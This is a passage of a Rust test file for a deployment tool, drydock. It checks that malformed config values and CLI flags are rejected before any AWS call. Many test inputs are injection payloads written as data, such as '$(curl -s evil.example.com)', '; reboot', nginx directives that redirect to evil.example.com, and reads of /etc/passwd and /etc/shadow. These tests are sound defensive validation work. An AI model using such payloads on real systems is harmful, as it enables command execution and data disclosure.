//! Bad input never reaches AWS. Each case copies the example tree, breaks one thing (one
//! snippet of one file, or one file name, or one flag), runs a command that would
//! otherwise talk to AWS, and checks that drydock
//! - exits 2,
//! - names the file, the line and the dotted key (or the flag) and states the rule,
//! - made no connection at all to the recording listener that stands in for AWS.
//!
//! Every case runs; the failures are reported together at the end.

use crate::common;

use std::fmt::Write as _;

use common::{drydock_recorded, line_of, run, ExampleTree, RecordingListener, RUN_TIMEOUT};

/// The command of config cases: would load the tree, then talk to AWS.
const DEPLOY: &[&str] = &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0"];

/// A bake that would otherwise resolve the base AMI in AWS.
const BAKE: &[&str] = &["bake", "www", "--env", "staging", "--image-tag", "1.0.0"];

/// The folders whose files appear at the start of a config error.
const TREE_PREFIXES: [&str; 5] = ["amis/", "environments/", "upstart/", "systemd/", "nginx/"];

enum Mutation {
    /// Nothing: the example tree as it is (flag cases).
    None,
    /// Replace the one occurrence of `old` in `file`.
    Replace { file: &'static str, old: &'static str, new: String },
    /// Copy a file of the tree to a new name.
    Copy { from: &'static str, to: &'static str },
    /// Write a new file.
    Write { file: &'static str, text: String },
    /// Remove a file or folder.
    Remove(&'static [&'static str]),
}

impl Mutation {
    /// The file a config error is expected in, unless the case names another.
    fn file(&self) -> Option<&'static str> {
        match self {
            Mutation::Replace { file, .. } | Mutation::Write { file, .. } => Some(file),
            Mutation::Copy { to, .. } => Some(to),
            Mutation::None | Mutation::Remove(_) => None,
        }
    }
}

/// Where the error's line is.
enum At {
    /// The line where the replacement starts.
    Replacement,
    /// The line of the last needle, each searched after the previous, in the mutated file.
    Needles(&'static [&'static str]),
    /// A whole-file problem: no line.
    NoLine,
}

enum Expect {
    /// `<file>:<line>: <key>: …<rule>…`
    Config {
        file: Option<&'static str>,
        at: At,
        /// The dotted key; empty where the message has none (TOML syntax, file names).
        key: String,
        rule: &'static str,
    },
    /// A line of stderr that holds both the flag's name and the rule.
    Flag { flag: &'static str, rule: &'static str },
}

struct Case {
    name: &'static str,
    mutation: Mutation,
    args: Vec<String>,
    expect: Expect,
}

impl Case {
    /// A broken config tree under `drydock deploy www --env staging --image-tag 1.0.0`.
    fn config(name: &'static str, mutation: Mutation, key: &str, rule: &'static str) -> Self {
        Case {
            name,
            mutation,
            args: DEPLOY.iter().map(|s| s.to_string()).collect(),
            expect: Expect::Config { file: None, at: At::Replacement, key: key.to_owned(), rule },
        }
    }

    /// A bad flag on the intact example tree.
    fn flag(name: &'static str, args: &[&str], flag: &'static str, rule: &'static str) -> Self {
        Case {
            name,
            mutation: Mutation::None,
            args: args.iter().map(|s| s.to_string()).collect(),
            expect: Expect::Flag { flag, rule },
        }
    }

    /// The error's line is that of `needles` (see `At::Needles`), not the replacement's.
    fn at(mut self, needles: &'static [&'static str]) -> Self {
        if let Expect::Config { at, .. } = &mut self.expect {
            *at = At::Needles(needles);
        }
        self
    }

    fn no_line(mut self) -> Self {
        if let Expect::Config { at, .. } = &mut self.expect {
            *at = At::NoLine;
        }
        self
    }

    fn args(mut self, args: &[&str]) -> Self {
        self.args = args.iter().map(|s| s.to_string()).collect();
        self
    }

    fn with(mut self, m: Mutation) -> Self {
        self.mutation = m;
        self
    }
}

fn replace(file: &'static str, old: &'static str, new: impl Into<String>) -> Mutation {
    Mutation::Replace { file, old, new: new.into() }
}

const WWW: &str = "amis/www.toml";
const BOOKMARKS: &str = "amis/bookmarks.toml";
const STAGING: &str = "environments/staging.toml";
const PROD: &str = "environments/prod.toml";

const IMAGE: &str = r#"image = "registry.example.com/dramafever/www""#;
const REPO_RULE: &str = "is not a valid Docker repository";
const WORD_RULE: &str = "an argument is 1 to 256 characters of";
const ENV_VALUE_RULE: &str = "an environment value is up to 1024 printable ASCII characters";
const DURATION_RULE: &str = "is not a valid duration";
const ROUTE_RULE: &str = "is not a valid route";
const SERVER_NAME_RULE: &str = "is not a valid nginx server name";
const LISTEN_RULE: &str = "is not a valid nginx listen address";
const RESOLVER_RULE: &str = "is not a valid resolver";
const PORT_RULE: &str = "is not a valid port";
const SERVICE_RULE: &str = "is not a valid service name";

fn cases() -> Vec<Case> {
    let long_elb = "a".repeat(40);
    vec![
        // ---- amis/www.toml: the image ----
        Case::config(
            "image with ;",
            replace(WWW, IMAGE, r#"image = "registry.example.com/dramafever/www;reboot""#),
            "image",
            REPO_RULE,
        ),
        Case::config(
            "image with $(...)",
            replace(WWW, IMAGE, r#"image = "registry.example.com/dramafever/www$(curl -s evil.example.com)""#),
            "image",
            REPO_RULE,
        ),
        Case::config(
            "image with ../",
            replace(WWW, IMAGE, r#"image = "registry.example.com/../../etc/passwd""#),
            "image",
            REPO_RULE,
        ),
        Case::config(
            "image with a tag",
            replace(WWW, IMAGE, r#"image = "registry.example.com/dramafever/www:latest""#),
            "image",
            "a tag belongs in --image-tag",
        ),
        // ---- amis/www.toml: args (reach the init job and a shell) ----
        Case::config(
            "args element with a backtick",
            replace(WWW, r#""--workers=4""#, r#""--workers=`nproc`""#),
            "args",
            WORD_RULE,
        ),
        Case::config(
            "args element with a single quote",
            replace(WWW, r#""www.wsgi:application""#, r#""www.wsgi:application'""#),
            "args",
            WORD_RULE,
        ),
        Case::config(
            "args element with a double quote",
            replace(WWW, r#""www.wsgi:application""#, r#""www.wsgi:\"application\"""#),
            "args",
            WORD_RULE,
        ),
        Case::config(
            "args element with a space",
            replace(WWW, r#""gunicorn""#, r#""gunicorn --reload""#),
            "args",
            WORD_RULE,
        ),
        Case::config(
            "args element with a newline",
            replace(WWW, r#""--workers=4""#, r#""--workers=4\nreboot""#),
            "args",
            WORD_RULE,
        ),
        Case::config(
            "args element with ;",
            replace(WWW, r#""--bind=0.0.0.0:8000""#, r#""--bind=0.0.0.0:8000;reboot""#),
            "args",
            WORD_RULE,
        ),
        // ---- amis/www.toml: env (written to the env file by the bootstrap) ----
        Case::config(
            "env value with a newline",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"LOG_FORMAT = "json\nEVIL=1""#),
            "env.LOG_FORMAT",
            ENV_VALUE_RULE,
        ),
        Case::config(
            "env value with $(...)",
            replace(WWW, r#""www.settings.production""#, r#""$(curl -s evil.example.com)""#),
            "env.DJANGO_SETTINGS_MODULE",
            ENV_VALUE_RULE,
        ),
        Case::config(
            "env value with a backtick",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"LOG_FORMAT = "`id`""#),
            "env.LOG_FORMAT",
            ENV_VALUE_RULE,
        ),
        Case::config(
            "env value with a single quote",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"LOG_FORMAT = "it's json""#),
            "env.LOG_FORMAT",
            ENV_VALUE_RULE,
        ),
        Case::config(
            "env value with ;",
            replace(WWW, r#""www.settings.production""#, r#""www.settings.production;reboot""#),
            "env.DJANGO_SETTINGS_MODULE",
            ENV_VALUE_RULE,
        ),
        Case::config(
            "secret-looking env var name",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"DB_PASSWORD = "hunter2""#),
            "env.DB_PASSWORD",
            "looks like a secret",
        ),
        Case::config(
            "env var name with a hyphen",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"log-format = "json""#),
            "env.log-format",
            "an environment variable name is",
        ),
        // ---- amis/www.toml: healthcheck (single-quoted into docker run) ----
        Case::config(
            "healthcheck cmd with $(...)",
            replace(WWW, r#""http://127.0.0.1:8000/health""#, r#""http://127.0.0.1:8000/$(id)""#),
            "healthcheck.cmd",
            WORD_RULE,
        ),
        Case::config(
            "healthcheck cmd with a single quote",
            replace(WWW, r#""-fsS""#, r#""-fsS'""#),
            "healthcheck.cmd",
            WORD_RULE,
        ),
        Case::config(
            "healthcheck interval not a duration",
            replace(WWW, r#"interval = "15s""#, r#"interval = "15 seconds""#),
            "healthcheck.interval",
            DURATION_RULE,
        ),
        Case::config(
            "healthcheck retries 0",
            replace(WWW, "retries = 3", "retries = 0"),
            "healthcheck.retries",
            "is out of range",
        ),
        // ---- amis/www.toml: init, template, ports, base ----
        Case::config(
            "template with ../",
            replace(WWW, r#"template = "www""#, r#"template = "../upstart/www""#),
            "template",
            "is not a valid template name",
        ),
        Case::config(
            "missing upstart template",
            replace(WWW, r#"template = "www""#, r#"template = "api""#),
            "template",
            "upstart/api.conf.hbs does not exist",
        ),
        Case::config(
            "missing systemd template",
            replace(BOOKMARKS, r#"init = "systemd""#, "init = \"systemd\"\ntemplate = \"www\""),
            "template",
            "systemd/www.service.hbs does not exist",
        )
        .at(&["template ="]),
        Case::config(
            "unknown init system",
            replace(WWW, r#"init = "upstart""#, r#"init = "sysvinit""#),
            "init",
            "is not an init system",
        ),
        Case::config(
            "unknown key in amis",
            replace(WWW, "container_port = 8000", "container_port = 8000\nmemory = \"1536m\""),
            "memory",
            "unknown field `memory`",
        )
        .at(&["memory ="]),
        Case::config(
            "container_port 70000",
            replace(WWW, "container_port = 8000", "container_port = 70000"),
            "container_port",
            PORT_RULE,
        ),
        Case::config(
            "host_port 0",
            replace(WWW, "host_port = 8080", "host_port = 0"),
            "host_port",
            PORT_RULE,
        ),
        Case::config(
            "base with both ami_id and owner",
            replace(
                WWW,
                r#"owner = "099720109477""#,
                "ami_id = \"ami-0123456789abcdef0\"\nowner = \"099720109477\"",
            ),
            "base",
            "set either ami_id, or owner and name",
        )
        .at(&["[base]"]),
        Case::config(
            "base owner not an owner",
            replace(WWW, r#"owner = "099720109477""#, r#"owner = "canonical""#),
            "base.owner",
            "is not an image owner",
        ),
        Case::config(
            "base name with ;",
            replace(
                WWW,
                r#"name = "ubuntu/images/hvm-ssd/ubuntu-trusty-14.04-amd64-server-*""#,
                r#"name = "ubuntu/images/hvm-ssd/ubuntu-trusty-14.04-amd64-server-*;id""#,
            ),
            "base.name",
            "a name or tag filter is",
        ),
        Case::config(
            "TOML syntax error in amis",
            replace(WWW, r#"template = "www""#, r#"template = "www"#),
            "",
            "invalid basic string",
        ),
        Case::config(
            "hyphen in an amis file name",
            Mutation::Copy {
                from: WWW,
                to: "amis/www-api.toml",
            },
            "",
            SERVICE_RULE,
        )
        .no_line(),
        // ---- environments/staging.toml: values that reach nginx ----
        Case::config(
            "route with ;",
            replace(STAGING, r#"route = "/img/""#, r#"route = "/img/;return 302 http://evil.example.com/;""#),
            "services.imageresize.route",
            ROUTE_RULE,
        ),
        Case::config(
            "route with }",
            replace(STAGING, r#"route = "/api/bookmarks/""#, r#"route = "/api/}bookmarks/""#),
            "services.bookmarks.route",
            ROUTE_RULE,
        ),
        Case::config(
            "route with ../",
            replace(STAGING, r#"route = "/img/""#, r#"route = "/img/../""#),
            "services.imageresize.route",
            ROUTE_RULE,
        ),
        Case::config(
            "route with $",
            replace(STAGING, r#"route = "/img/""#, r#"route = "/img/$host/""#),
            "services.imageresize.route",
            ROUTE_RULE,
        ),
        Case::config(
            "server_name with ;",
            replace(
                STAGING,
                r#"server_name = ["staging.example.com"]"#,
                r#"server_name = ["staging.example.com; return 301 https://evil.example.com"]"#,
            ),
            "nginx.server_name",
            SERVER_NAME_RULE,
        ),
        Case::config(
            "server_name with }",
            replace(STAGING, r#"server_name = ["staging.example.com"]"#, r#"server_name = ["staging.example.com}"]"#),
            "nginx.server_name",
            SERVER_NAME_RULE,
        ),
        Case::config(
            "listen with ;",
            replace(STAGING, r#"listen = "80""#, r#"listen = "80; include /etc/shadow""#),
            "nginx.listen",
            LISTEN_RULE,
        ),
        Case::config(
            "listen with }",
            replace(STAGING, r#"listen = "80""#, r#"listen = "80 } server {""#),
            "nginx.listen",
            LISTEN_RULE,
        ),
        Case::config(
            "resolver with ;",
            replace(STAGING, r#"resolver = ["169.254.169.253"]"#, r#"resolver = ["169.254.169.253;"]"#),
            "nginx.resolver",
            RESOLVER_RULE,
        ),
        Case::config(
            "resolver with }",
            replace(
                STAGING,
                r#"resolver = ["169.254.169.253"]"#,
                r#"resolver = ["169.254.169.253 valid=1s; } server { listen 81"]"#,
            ),
            "nginx.resolver",
            RESOLVER_RULE,
        ),
        Case::config(
            "resolver_valid not a duration",
            replace(STAGING, r#"resolver_valid = "10s""#, r#"resolver_valid = "10s;""#),
            "nginx.resolver_valid",
            DURATION_RULE,
        ),
        Case::config(
            "empty server_name list",
            replace(STAGING, r#"server_name = ["staging.example.com"]"#, "server_name = []"),
            "nginx.server_name",
            "at least one",
        ),
        Case::config(
            "duplicate route between two services",
            replace(STAGING, r#"route = "/img/""#, r#"route = "/api/bookmarks/""#),
            "services.imageresize.route",
            "is already the route of service bookmarks",
        ),
        // ---- environments/staging.toml: names ----
        Case::config(
            "hyphen in a service name of an env file",
            replace(STAGING, "[services.bookmarks]", "[services.www-api]"),
            "services.www-api",
            SERVICE_RULE,
        ),
        Case::config(
            "hyphen in an env file name",
            Mutation::Copy {
                from: STAGING,
                to: "environments/pre-prod.toml",
            },
            "",
            "is not a valid environment name",
        )
        .no_line(),
        Case::config(
            "40-character elb_name",
            replace(STAGING, r#"standby_ttl = "1h""#, format!("standby_ttl = \"1h\"\nelb_name = \"{long_elb}\"")),
            "services.www.elb_name",
            "(40 characters) is not a valid ELB name",
        )
        .at(&["elb_name ="]),
        Case::config(
            "elb_name used by another environment in the region",
            replace(STAGING, r#"standby_ttl = "1h""#, "standby_ttl = \"1h\"\nelb_name = \"www-prod\""),
            "services.www.elb_name",
            "is also used by service www in environment prod",
        )
        .at(&["elb_name ="]),
        Case::config(
            "bad region",
            replace(STAGING, r#"region = "us-east-1""#, r#"region = "us-east-1; curl evil.example.com""#),
            "region",
            "is not an AWS region",
        ),
        Case::config(
            "bad account_id",
            replace(STAGING, r#"# account_id = "123456789012""#, r#"account_id = "1234-5678-9012""#),
            "account_id",
            "is not an AWS account id",
        ),
        // ---- environments/staging.toml: network and bake ----
        Case::config(
            "subnet id not hex",
            replace(STAGING, r#"subnets = ["default"]"#, r#"subnets = ["subnet-XYZ"]"#),
            "network.subnets",
            "is not a valid id",
        ),
        Case::config(
            "no subnet",
            replace(STAGING, r#"subnets = ["default"]"#, "subnets = []"),
            "network.subnets",
            "must name at least one subnet",
        ),
        Case::config(
            "security group with ;",
            replace(STAGING, r#"security_groups = ["default"]"#, r#"security_groups = ["default;drop"]"#),
            "network.security_groups",
            "a name or tag filter is",
        ),
        Case::config(
            "bad bake instance type",
            replace(STAGING, "[bake]\ninstance_type = \"t3.small\"", "[bake]\ninstance_type = \"T3.Small\""),
            "bake.instance_type",
            "is not an instance type",
        )
        .at(&["[bake]", "instance_type ="]),
        Case::config(
            "bake timeout not a duration",
            replace(STAGING, r#"timeout = "20m""#, r#"timeout = "20 min""#),
            "bake.timeout",
            DURATION_RULE,
        ),
        // ---- environments/staging.toml: services ----
        Case::config(
            "unknown key at the top of an env file",
            replace(STAGING, r#"region = "us-east-1""#, "region = \"us-east-1\"\nzone = \"us-east-1a\""),
            "zone",
            "unknown field `zone`",
        )
        .at(&["zone ="]),
        Case::config(
            "unknown key in an env service",
            replace(STAGING, "keep_releases = 2", "keep_releases = 2\nhealth_check_path = \"/health\""),
            "services.www.health_check_path",
            "unknown field `health_check_path`",
        )
        .at(&["health_check_path ="]),
        Case::config(
            "min > desired",
            replace(STAGING, "min = 1\ndesired = 2", "min = 3\ndesired = 2"),
            "services.www.desired",
            "min ≤ desired ≤ max",
        )
        .at(&["desired = 2"]),
        Case::config(
            "desired > max",
            replace(STAGING, "desired = 2\nmax = 4", "desired = 5\nmax = 4"),
            "services.www.desired",
            "min ≤ desired ≤ max",
        ),
        Case::config(
            "listener port 70000",
            replace(
                STAGING,
                r#"listener = { port = 80, protocol = "HTTP" }"#,
                r#"listener = { port = 70000, protocol = "HTTP" }"#,
            ),
            "services.www.listener.port",
            PORT_RULE,
        ),
        Case::config(
            "listener protocol HTTPS",
            replace(
                STAGING,
                r#"listener = { port = 80, protocol = "HTTP" }"#,
                r#"listener = { port = 443, protocol = "HTTPS" }"#,
            ),
            "services.www.listener.protocol",
            "is not supported",
        ),
        Case::config(
            "health_timeout not a duration",
            replace(STAGING, r#"health_timeout = "10m""#, r#"health_timeout = "10 minutes""#),
            "services.www.health_timeout",
            DURATION_RULE,
        ),
        Case::config(
            "standby_ttl not a duration",
            replace(STAGING, r#"standby_ttl = "1h""#, r#"standby_ttl = "1.5h""#),
            "services.www.standby_ttl",
            DURATION_RULE,
        ),
        Case::config(
            "bad service instance type",
            replace(STAGING, r#"instance_type = "t3.micro""#, r#"instance_type = "t3.micro; reboot""#),
            "services.bookmarks.instance_type",
            "is not an instance type",
        ),
        Case::config(
            "bad health_check",
            replace(STAGING, r#"health_check = "TCP:8080""#, r#"health_check = "HTTP:8080/health;reboot""#),
            "services.bookmarks.health_check",
            "is not a valid ELB health check",
        ),
        Case::config(
            "HTTP health_check without a path",
            replace(STAGING, r#"health_check = "HTTP:8080/healthz""#, r#"health_check = "HTTP:8080""#),
            "services.imageresize.health_check",
            "is not a valid ELB health check",
        ),
        Case::config(
            "keep_releases out of range",
            replace(STAGING, "keep_releases = 2", "keep_releases = 50"),
            "services.www.keep_releases",
            "is out of range",
        ),
        Case::config(
            "unknown standby mode",
            replace(STAGING, r#"standby = "cold""#, r#"standby = "frozen""#),
            "services.imageresize.standby",
            "is not a standby mode",
        ),
        Case::config(
            "missing health_check",
            replace(STAGING, "health_check = \"TCP:8080\"\n", ""),
            "services.bookmarks.health_check",
            "is required",
        )
        .at(&["[services.bookmarks]"]),
        Case::config(
            "service without recipe or instance_port",
            replace(
                STAGING,
                "health_check = \"TCP:8080\"\n",
                "health_check = \"TCP:8080\"\n\n[services.api]\ninstance_type = \"t3.small\"\nmin = 1\nmax = 2\nhealth_check = \"TCP:8080\"\n",
            ),
            "services.api.listener",
            "set listener.instance_port",
        )
        .at(&["[services.api]"]),
        Case::config(
            "TOML syntax error in an env file",
            replace(STAGING, "[services.www]", "[services.www"),
            "",
            "unclosed table",
        ),
        // ---- environments/prod.toml and nginx/ ----
        Case::config(
            "missing nginx template",
            replace(PROD, r#"template = "frontdoor""#, r#"template = "backdoor""#),
            "nginx.template",
            "nginx/backdoor.conf.hbs does not exist",
        ),
        Case::config(
            "nginx template with ../",
            replace(PROD, r#"template = "frontdoor""#, r#"template = "../nginx/frontdoor""#),
            "nginx.template",
            "is not a valid template name",
        ),
        Case::config(
            "template file with a bad name",
            Mutation::Write {
                file: "nginx/Front Door.conf.hbs",
                text: "server {}\n".into(),
            },
            "",
            "is not a valid template name",
        )
        .no_line(),
        // ---- flags ----
        Case::flag(
            "--image-tag latest",
            &["render", "init", "www", "--image-tag", "latest"],
            "--image-tag",
            "\"latest\" is refused",
        ),
        Case::flag(
            "--image-tag with ;",
            &["render", "init", "www", "--image-tag", "1.0;reboot"],
            "--image-tag",
            "is not a valid image tag",
        ),
        Case::flag(
            "--image-tag with $(...)",
            &["render", "init", "www", "--image-tag", "$(id)"],
            "--image-tag",
            "is not a valid image tag",
        ),
        Case::flag(
            "--image-tag with a newline",
            &["render", "init", "www", "--image-tag", "1.0\nreboot"],
            "--image-tag",
            "is not a valid image tag",
        ),
        Case::flag(
            "--image-digest too short",
            &["render", "init", "www", "--image-digest", "sha256:abc"],
            "--image-digest",
            "is not a valid image digest",
        ),
        Case::flag(
            "--image-digest upper-case hex",
            &["render", "init", "www", "--image-digest", &format!("sha256:{}", "A".repeat(64))],
            "--image-digest",
            "is not a valid image digest",
        ),
        Case::flag(
            "both --image-tag and --image-digest",
            &["render", "init", "www", "--image-tag", "1.0.0", "--image-digest", &format!("sha256:{}", "a".repeat(64))],
            "--image-tag",
            "cannot be used with",
        ),
        Case::flag(
            "service with a hyphen",
            &["render", "init", "www-api", "--image-tag", "1.0.0"],
            "service",
            SERVICE_RULE,
        ),
        Case::flag(
            "service without a recipe",
            &["render", "init", "api", "--image-tag", "1.0.0"],
            "service api",
            "has no amis/api.toml",
        ),
        Case::flag(
            "--parallel 0",
            &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0", "--parallel", "0"],
            "--parallel",
            "0 is not in 1..=100",
        ),
        Case::flag(
            "config dir that is no tree",
            DEPLOY,
            "-C/--config-dir",
            "holds neither amis/ nor environments/",
        )
        .with(Mutation::Remove(&["amis", "environments"])),
        Case::flag(
            "bad --env",
            &["deploy", "www", "--env", "pre-prod", "--image-tag", "1.0.0"],
            "--env",
            "is not a valid environment name",
        ),
        Case::flag(
            "--image-tag latest on deploy",
            &["deploy", "www", "--env", "staging", "--image-tag", "latest"],
            "--image-tag",
            "\"latest\" is refused",
        ),
        Case::flag(
            "deploy a service with a hyphen",
            &["deploy", "www-api", "--env", "staging", "--image-tag", "1.0.0"],
            "service",
            SERVICE_RULE,
        ),
        Case::flag(
            "--health-timeout not a duration",
            &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0", "--health-timeout", "10 minutes"],
            "--health-timeout",
            DURATION_RULE,
        ),
        // ---- bake: validates every flag before its first AWS call ----
        Case::flag(
            "bake --build-url not http(s)",
            &["bake", "www", "--env", "staging", "--image-tag", "1.0.0", "--build-url", "file:///etc/passwd"],
            "--build-url",
            "is not a valid build URL",
        ),
        Case::flag(
            "bake --build-url with a quote",
            &["bake", "www", "--env", "staging", "--image-tag", "1.0.0", "--build-url", "https://ci.example.com/job/'$(id)'/"],
            "--build-url",
            "is not a valid build URL",
        ),
        Case::flag(
            "bake --env with a hyphen",
            &["bake", "www", "--env", "pre-prod", "--image-tag", "1.0.0"],
            "--env",
            "is not a valid environment name",
        ),
        Case::flag(
            "bake --env without a file",
            &["bake", "www", "--env", "qa", "--image-tag", "1.0.0"],
            "--env qa",
            "there is no environments/qa.toml",
        ),
        Case::flag(
            "bake --image-tag latest",
            &["bake", "www", "--env", "staging", "--image-tag", "latest"],
            "--image-tag",
            "\"latest\" is refused",
        ),
        Case::flag(
            "bake --image-digest too short",
            &["bake", "www", "--env", "staging", "--image-digest", "sha256:0123"],
            "--image-digest",
            "is not a valid image digest",
        ),
        Case::flag(
            "bake a service with a hyphen",
            &["bake", "www-api", "--env", "staging", "--image-tag", "1.0.0"],
            "service",
            SERVICE_RULE,
        ),
        Case::flag(
            "bake a service without a recipe",
            &["bake", "api", "--env", "staging", "--image-tag", "1.0.0"],
            "service api",
            "has no amis/api.toml",
        ),
        Case::flag(
            "bake a tag too long for an AMI name",
            &["bake", "www", "--env", "staging", "--image-tag", &"t".repeat(128)],
            "bake www",
            "EC2 allows 128",
        ),
        Case::flag(
            "bake --region not a region",
            &["bake", "www", "--env", "staging", "--image-tag", "1.0.0", "--region", "useast1"],
            "--region",
            "is not an AWS region",
        ),
        Case::config(
            "bake: image with ;",
            replace(WWW, IMAGE, r#"image = "registry.example.com/dramafever/www;reboot""#),
            "image",
            REPO_RULE,
        )
        .args(BAKE),
        Case::config(
            "bake: env value with a newline",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"LOG_FORMAT = "json\nEVIL=1""#),
            "env.LOG_FORMAT",
            ENV_VALUE_RULE,
        )
        .args(BAKE),
        Case::config(
            "bake: bad bake instance type",
            replace(STAGING, "[bake]\ninstance_type = \"t3.small\"", "[bake]\ninstance_type = \"t3\""),
            "bake.instance_type",
            "is not an instance type",
        )
        .at(&["[bake]", "instance_type ="])
        .args(BAKE),
        // ---- issue 12 (2): durations and counts are bounded at parse time ----
        // 106751991167301d fits a u64 of seconds but overflows an Instant deadline: the
        // real run panicked after AWS writes; check and --dry-run accepted it.
        Case::flag(
            "--health-timeout that overflows a deadline",
            &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0", "--health-timeout", "106751991167301d"],
            "--health-timeout",
            "is out of range: a duration from 1s to 1d is allowed",
        ),
        Case::flag(
            "--health-timeout that overflows a deadline, dry run",
            &[
                "deploy",
                "www",
                "--env",
                "staging",
                "--image-tag",
                "1.0.0",
                "--health-timeout",
                "106751991167301d",
                "--dry-run",
            ],
            "--health-timeout",
            "is out of range",
        ),
        Case::flag(
            "--health-timeout 0s",
            &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0", "--health-timeout", "0s"],
            "--health-timeout",
            "is out of range",
        ),
        Case::config(
            "bake timeout that overflows a deadline",
            replace(STAGING, r#"timeout = "20m""#, r#"timeout = "106751991167301d""#),
            "bake.timeout",
            "is out of range: a duration from 1s to 4h is allowed",
        )
        .args(BAKE),
        Case::config(
            "bake timeout that overflows a deadline, check",
            replace(STAGING, r#"timeout = "20m""#, r#"timeout = "106751991167301d""#),
            "bake.timeout",
            "is out of range",
        )
        .args(&["check", "--no-nginx"]),
        // ---- progressive delivery (issue #17) ----
        Case::config(
            "canary as big as the service",
            replace(STAGING, r#"standby_ttl = "1h""#, "canary = { instances = 2, hold = \"5m\" }\nstandby_ttl = \"1h\""),
            "services.www.canary.instances",
            "2 is out of range: a whole number from 1 to 1 (desired − 1) is allowed",
        ),
        Case::config(
            "canary of no instance",
            replace(STAGING, r#"standby_ttl = "1h""#, "canary = { instances = 0, hold = \"5m\" }\nstandby_ttl = \"1h\""),
            "services.www.canary.instances",
            "0 is out of range",
        ),
        Case::config(
            "canary on a service of one instance",
            replace(STAGING, "desired = 2\n", "desired = 1\ncanary = { instances = 1, hold = \"5m\" }\n"),
            "services.www.canary.instances",
            "a canary needs desired ≥ 2",
        )
        .at(&["canary ="]),
        Case::config(
            "canary hold over 6 hours",
            replace(STAGING, r#"standby_ttl = "1h""#, "canary = { instances = 1, hold = \"7h\" }\nstandby_ttl = \"1h\""),
            "services.www.canary.hold",
            "is out of range: a duration from 0s to 6h is allowed",
        ),
        Case::config(
            "canary without a hold",
            replace(STAGING, r#"standby_ttl = "1h""#, "canary = { instances = 1 }\nstandby_ttl = \"1h\""),
            "services.www.canary.hold",
            "is required",
        ),
        Case::config(
            "canary with an unknown key",
            replace(
                STAGING,
                r#"standby_ttl = "1h""#,
                "canary = { instances = 1, hold = \"5m\", percent = 10 }\nstandby_ttl = \"1h\"",
            ),
            "services.www.canary.percent",
            "unknown field `percent`, expected `instances` or `hold`",
        ),
        Case::config(
            "an alarm listed twice",
            replace(STAGING, r#"standby_ttl = "1h""#, "alarms = [\"www-5xx\", \"www-5xx\"]\nstandby_ttl = \"1h\""),
            "services.www.alarms",
            "\"www-5xx\" is listed twice",
        ),
        Case::config(
            "an alarm name with a control character",
            replace(STAGING, r#"standby_ttl = "1h""#, "alarms = [\"www\\t5xx\"]\nstandby_ttl = \"1h\""),
            "services.www.alarms",
            "is not a valid alarm name: a CloudWatch alarm name is 1 to 255 characters without control characters",
        ),
        Case::config(
            "an empty alarm name",
            replace(STAGING, r#"standby_ttl = "1h""#, "alarms = [\"\"]\nstandby_ttl = \"1h\""),
            "services.www.alarms",
            "is not a valid alarm name",
        ),
        Case::config(
            "bake_time over 6 hours",
            replace(STAGING, r#"standby_ttl = "1h""#, "bake_time = \"1d\"\nstandby_ttl = \"1h\""),
            "services.www.bake_time",
            "is out of range: a duration from 0s to 6h is allowed",
        ),
        Case::config(
            "bake_time not a duration",
            replace(STAGING, r#"standby_ttl = "1h""#, "bake_time = \"ten minutes\"\nstandby_ttl = \"1h\""),
            "services.www.bake_time",
            DURATION_RULE,
        ),
        Case::flag(
            "--ignore-alarms with an empty name",
            &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0", "--ignore-alarms", ""],
            "--ignore-alarms",
            "is not a valid alarm name",
        ),
        Case::config(
            "health_timeout over a day",
            replace(STAGING, r#"health_timeout = "10m""#, r#"health_timeout = "2d""#),
            "services.www.health_timeout",
            "is out of range: a duration from 1s to 1d is allowed",
        ),
        Case::config(
            "standby_ttl over 30 days",
            replace(STAGING, r#"standby_ttl = "1h""#, r#"standby_ttl = "31d""#),
            "services.www.standby_ttl",
            "is out of range: a duration from 0s to 30d is allowed",
        ),
        Case::config(
            "grace_period over AWS's 7200 s",
            replace(STAGING, r#"standby_ttl = "1h""#, "standby_ttl = \"1h\"\ngrace_period = \"7201s\""),
            "services.www.grace_period",
            "is out of range: a duration from 0s to 2h is allowed",
        )
        .at(&["[services.www]", "grace_period ="]),
        // ---- environments/prod.toml: www's scaling, schedule and lifecycle (issue 16) ----
        Case::config(
            "cpu_target of 0",
            replace(PROD, "cpu_target = 60", "cpu_target = 0"),
            "services.www.scaling.cpu_target",
            "is out of range: a whole number from 1 to 100 is allowed",
        ),
        Case::config(
            "cpu_target over 100",
            replace(PROD, "cpu_target = 60", "cpu_target = 101"),
            "services.www.scaling.cpu_target",
            "is out of range: a whole number from 1 to 100 is allowed",
        ),
        Case::config(
            "cpu_target as a string",
            replace(PROD, "cpu_target = 60", r#"cpu_target = "60%""#),
            "services.www.scaling.cpu_target",
            "invalid type",
        ),
        Case::config(
            "warmup over an hour",
            replace(PROD, r#"warmup = "3m""#, r#"warmup = "2h""#),
            "services.www.scaling.warmup",
            "is out of range: a duration from 0s to 1h is allowed",
        ),
        Case::config(
            "scale_in not a boolean",
            replace(PROD, r#"warmup = "3m""#, "warmup = \"3m\"\nscale_in = \"no\""),
            "services.www.scaling.scale_in",
            "invalid type",
        )
        .at(&["scale_in ="]),
        Case::config(
            "unknown key in scaling",
            replace(PROD, r#"warmup = "3m""#, "warmup = \"3m\"\nscale_out = false"),
            "services.www.scaling.scale_out",
            "unknown field `scale_out`",
        )
        .at(&["scale_out ="]),
        Case::config(
            "recurrence with hour 25",
            replace(PROD, r#"recurrence = "0 7 * * MON-FRI""#, r#"recurrence = "0 25 * * MON-FRI""#),
            "services.www.schedule.0.recurrence",
            "the hour field \"25\" is not valid",
        ),
        Case::config(
            "recurrence of four fields",
            replace(PROD, r#"recurrence = "0 7 * * MON-FRI""#, r#"recurrence = "0 7 * *""#),
            "services.www.schedule.0.recurrence",
            "has 4 field(s)",
        ),
        Case::config(
            "recurrence with a command substitution",
            replace(PROD, r#"recurrence = "0 7 * * MON-FRI""#, r#"recurrence = "$(reboot) 7 * * *""#),
